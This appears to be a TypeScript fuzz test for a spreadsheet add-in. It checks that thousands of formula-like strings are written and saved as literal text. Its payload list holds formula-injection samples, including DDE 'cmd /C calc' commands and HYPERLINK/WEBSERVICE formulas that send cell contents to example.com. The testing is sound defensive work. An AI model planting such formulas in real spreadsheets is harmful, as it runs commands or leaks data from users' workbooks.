import fc from "fast-check";
import type { Edit } from "../../src/domain/findings/finding";
import { text, type MadeSheet } from "../../src/domain/sheets/sheet-spec";
import type { Workbook } from "../../src/host/model/workbook";
import { openXlsx } from "../../src/host/xlsx/open-xlsx";
import { saveXlsx } from "../../src/host/xlsx/save-xlsx";
import { Random } from "../fuzz/random";
import { drawnWorkbook } from "../host/simulated-workbook";
import { DESKTOP, openExcel, openPlan } from "./open-excel";

/** Texts that have acted as formulas, links, commands or numbers somewhere. */
const LISTED = [
  ...'=1+1|+1|-1|@SUM(A1)|=A1|+A1|-A1|=1|==1|\'=1|"=1|="x"|;=1|,=1|\t=1|\r=1|\n=1| =1|\u00a0=1|＝1|＋1|－1|＠A1|%0A=1|0x0A=1'.split("|"),
  '=HYPERLINK("http://example.com?x="&A1,"click")',
  '=WEBSERVICE("http://example.com/"&A1)',
  '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=DDE("cmd";"/C calc";"x")',
  '=EXEC("calc")',
  "=[http://example.com/book.xlsx]Sheet1!A1",
  "{=1+1}",
  "=_xlfn.LET(x,1,x)",
  '=INDIRECT("A1")',
  "#REF!",
  "#N/A",
  "TRUE",
  "1.10",
  "007",
  "1e5",
  "1/2",
  "31/06/2019",
  "12%",
  "£5",
  "16:30",
  "''",
  "'",
  "_x000D_",
  "<b>x</b>",
];
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "'", '"', " ", "＝", "=-+@", "", "", "#", "%", "1", "0", "("];
const MIDDLES = [
  "1+1",
  "A1",
  "SUM(A1:A9)",
  "cmd|' /C calc'!A0",
  "May 2019",
  "5/4",
  "amber",
  "TRUE",
  "é😀",
  "a\nb",
  "&<>",
  "1e5",
  "_x0041_",
  "​",
];
const RANDOM = 10_000;

const texts = (): string[] => {
  const random = new Random(20191201, 1);
  const drawn = Array.from({ length: RANDOM }, (_, index) => {
    const pieces = [random.of(STARTS), ...Array.from({ length: 1 + random.below(3) }, () => random.of([...MIDDLES, ...STARTS]))];
    return `${pieces.join("")}${random.chance(0.2) ? String(index) : ""}`;
  });
  return [...LISTED, ...drawn].filter((each) => each !== "");
};

const held = (book: Workbook, sheet: string, rows: number): unknown[] =>
  Array.from({ length: rows }, (_, row) => {
    const cell = book.find(sheet)?.cells.get(row, 0);
    return cell && cell.formula !== null ? `a formula: ${cell.formula}` : cell?.value;
  });
const wrong = (given: readonly string[], got: readonly unknown[]): unknown[] =>
  given.flatMap((each, index) => (got[index] === each ? [] : [[each, got[index]]]));
/** The workbook as its file gives it back. */
const reopened = (book: Workbook): Workbook => openXlsx(saveXlsx(book), "again.xlsx");

describe("ten thousand texts that could act as formulas", () => {
  const all = texts();
  it("are enough", () => {
    expect([LISTED.length >= 50, all.length >= 10_000, new Set(all).size > 3_000]).toEqual([true, true, true]);
  });

  it("come back as they were written by a fix, also from the saved file", async () => {
    const book = drawnWorkbook({ Plan: all.map(() => ["was"]) });
    const { excel } = await openExcel(book, DESKTOP);
    const edits = all.map((becomes, row): Edit => ({ at: { sheet: "Plan", row, column: 0 }, was: "was", becomes }));
    expect((await excel.apply(edits)).kind).toBe("applied");
    expect(wrong(all, held(book, "Plan", all.length))).toEqual([]);
    expect(wrong(all, held(reopened(book), "Plan", all.length))).toEqual([]);
  });

  it("come back as they were written on a sheet of ours, also from the saved file", async () => {
    const book = openPlan("000-tidy");
    const { excel } = await openExcel(book, DESKTOP);
    const spec: MadeSheet = {
      kind: "findings",
      name: "Findings",
      widths: [20],
      rows: all.map((each) => [text(each)]),
      headerRow: 0,
      charts: [],
      print: { orientation: "landscape", fit: "width", footer: "=1+1 & B" },
      made: { plan: "x", at: "now", asOf: "2019-12-01" },
    };
    expect((await excel.writeSheet(spec)).kind).toBe("written");
    expect(wrong(all, held(book, "Findings", all.length))).toEqual([]);
    expect(wrong(all, held(reopened(book), "Findings", all.length))).toEqual([]);
  });
});

it("any text at all comes back from a fix", async () => {
  const book = drawnWorkbook({ Plan: [["was"]] });
  const { excel } = await openExcel(book, DESKTOP);
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: "binary", minLength: 1, maxLength: 40 }), async (becomes) => {
      const cell = book.find("Plan")?.cells.touch(0, 0);
      if (cell) Object.assign(cell, { value: "was", formula: null });
      expect((await excel.apply([{ at: { sheet: "Plan", row: 0, column: 0 }, was: "was", becomes }])).kind).toBe("applied");
      expect(held(book, "Plan", 1)).toEqual([becomes]);
    }),
    { numRuns: 150 },
  );
});
